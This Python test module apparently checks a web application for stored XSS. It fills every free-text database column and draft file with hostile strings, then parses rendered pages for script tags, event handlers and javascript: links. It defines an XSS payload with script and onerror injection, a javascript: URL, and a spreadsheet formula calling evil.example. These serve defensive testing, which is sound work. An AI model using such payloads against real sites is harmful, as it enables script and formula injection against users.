"""Every text that is kept gives way to one that wants to be markup; and what of it is harm in an answer."""

import json
from collections.abc import Callable, Iterator, Mapping
from hashlib import sha256
from html.parser import HTMLParser
from typing import Any

import tomlkit
from sqlalchemy import Column, Connection, Enum, String, Table, select, update

from capture.catalogue import documents
from capture.catalogue.models import Draft
from capture.catalogue.parcels import DEFINITION
from capture.config import Settings
from capture.db import Base, Json
from tests.web.everything import CHAPTER

Hostile = Callable[[str], str]

# Columns by whose values the product finds or chooses something; all others of text are taken for free text.
CHOSEN = {
    *("public_id", "slug", "leads_to", "address_key", "proof.key", "document", "files", "pictures", "pages", "payload"),
    *("token", "token_hash", "code_hash", "cookie_hash", "password_hash", "totp_secret", "secret", "previous_secret"),
    *(
        "provider_issuer",
        "provider_subject",
        "session_mark",
        "scope",
        "sha",
        "digest",
        "wording_digest",
        "bundle_digest",
        "header_key",
        "question_set",
    ),
    *("idempotency_key", "dedupe_key", "outbox_key", "form_key", "open_key", "lane", "claimed_by", "handover"),
    *(
        "zone",
        "language",
        "translation_of",
        "currency",
        "purpose",
        "destination",
        "dimension",
        "rule_key",
        "disposition.reason",
        "disposition.wrong",
    ),
    *("kinds", "feed_entry.kind", "webhook_delivery.kind", "reject_reason.key", "crm_ids", "mapping"),
    *(
        "staff_ids",
        "late_ids",
        "ranges",
        "benchmark",
        "daily_total.value",
        "weekly_total.value",
        "daily_response.rejections",
        "closed_response.rejections",
        "lead_block.text",
    ),
}
# The same within JSON; a `url` is judged by its scheme on its way in.
CHOSEN_IN_JSON = {
    *("key", "kind", "language", "theme", "colour", "logo", "lettering", "voice", "cookies", "delivery", "sections"),
    *("translation_of", "fills", "purpose", "ask", "embed_on", "starts_at", "zone", "url", "axis", "at", "source"),
    *("asks", "event", "field", "per", "magnet_kinds"),
}
ADDRESSES = {"href", "src", "srcset", "action", "formaction", "data", "poster", "cite", "background", "xlink:href"}


def markup(place: str) -> str:
    """Ends what it may stand in, and begins what runs."""
    return f"<script>window.x=1</script>\"'><img src=x onerror=window.x=1><b {place}>"


def link(place: str) -> str:
    """An address that runs."""
    return f"javascript:window.x=1//{place}"


def formula(place: str) -> str:
    """What a spreadsheet would work out."""
    return f'=HYPERLINK("http://evil.example/{place}")'


def overwrite(connection: Connection, hostile: Hostile) -> set[str]:
    """Put hostile texts in the place of all that are kept; gives the columns that held some."""
    held = set()
    for table in Base.metadata.sorted_tables:
        for row in connection.execute(select(table)).mappings().all():
            changes = dict(_changes(table, dict(row), hostile))
            held |= {f"{table.name}.{name}" for name in changes}
            if changes:
                this_row = [column == row[column.name] for column in table.primary_key]
                connection.execute(update(table).where(*this_row).values(changes))
    return held


def rewrite_drafts(connection: Connection, settings: Settings, hostile: Hostile) -> None:
    """The same for the files of drafts, which lie outside the database: all words of magnet.toml, and a chapter."""
    store = documents.store(settings)
    for draft_id, files in connection.execute(select(Draft.id, Draft.files)).all():
        with store.open(files[DEFINITION]) as file:
            definition = tomlkit.parse(file.read().decode()).unwrap()
        written = {
            DEFINITION: tomlkit.dumps(_hostile(definition, DEFINITION, hostile)),
            CHAPTER: f"# {hostile('chapter.title')}\n\n{hostile('chapter.text')}\n\n[x]({hostile('chapter.link')})\n",
        }
        kept = {path: store.put(text.encode()) for path, text in written.items() if path in files}
        connection.execute(update(Draft).where(Draft.id == draft_id).values(files={**files, **kept}))


def free_columns() -> set[str]:
    """The columns that a hostile text could stand in."""
    return {str(column) for table in Base.metadata.sorted_tables for column in table.columns if is_free(column)}


def is_free(column: Column[Any]) -> bool:
    """Whether a column keeps text, or JSON with text in it, that a person or another system may have written."""
    if column.computed is not None:
        return False
    is_text = isinstance(column.type, String) and not isinstance(column.type, Enum) and (column.type.length or 999) > 64
    return (is_text or isinstance(column.type, Json)) and not {column.name, str(column)} & CHOSEN


def _changes(table: Table, row: Mapping[Any, Any], hostile: Hostile) -> Iterator[tuple[str, object]]:
    number = "-".join(str(row[column.name]) for column in table.primary_key)
    for column in table.columns:
        if is_free(column) and row[column.name] not in (None, {}, []):
            kept = row[column.name] or "a text"  # an empty one could have been filled
            yield column.name, _hostile(kept, f"{column}.{number}", hostile)
    if {"definition", "digest"} <= set(table.columns.keys()):
        yield "digest", sha256(hostile(number).encode()).hexdigest()  # by which definitions are remembered


def _hostile(value: Any, place: str, hostile: Hostile) -> Any:
    if isinstance(value, dict):
        return {
            key: part if key in CHOSEN_IN_JSON else _hostile(part, f"{place}.{key}", hostile)
            for key, part in value.items()
        }
    if isinstance(value, list):
        return [_hostile(part, f"{place}.{number}", hostile) for number, part in enumerate(value)]
    names_a_row = isinstance(value, str) and value.isdigit()
    return hostile(place) if isinstance(value, str) and value and not names_a_row else value


class Harm(HTMLParser):
    """What of a page runs or leads to what runs. Ours are scripts of a file of our own, and data for search engines."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.words: list[str] = []
        self._is_data = False
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        self._is_data = tag == "script" and given.get("type") == "application/ld+json"
        is_ours = self._is_data or given.get("src", "").startswith("/static/")
        if (tag == "script" and not is_ours) or given.get("src") == "x" or tag == "b":
            self.found.append(self.get_starttag_text() or tag)
        for name, value in given.items():
            self.words.append(value)
            runs = name in ADDRESSES and "".join(value.split()).lower().startswith("javascript:")
            if runs or name.startswith("on") or "." in name:
                self.found.append(f"<{tag} {name}={value}>")

    def handle_data(self, data: str) -> None:
        if self._is_data and not is_json(data):
            self.found.append(f"data that ends before its end: {data}")
        self.words.append(data)

    def handle_endtag(self, tag: str) -> None:
        self._is_data = False


def is_json(text: str) -> bool:
    """Whether it is one whole JSON document."""
    try:
        json.loads(text)
    except ValueError:
        return False
    return True
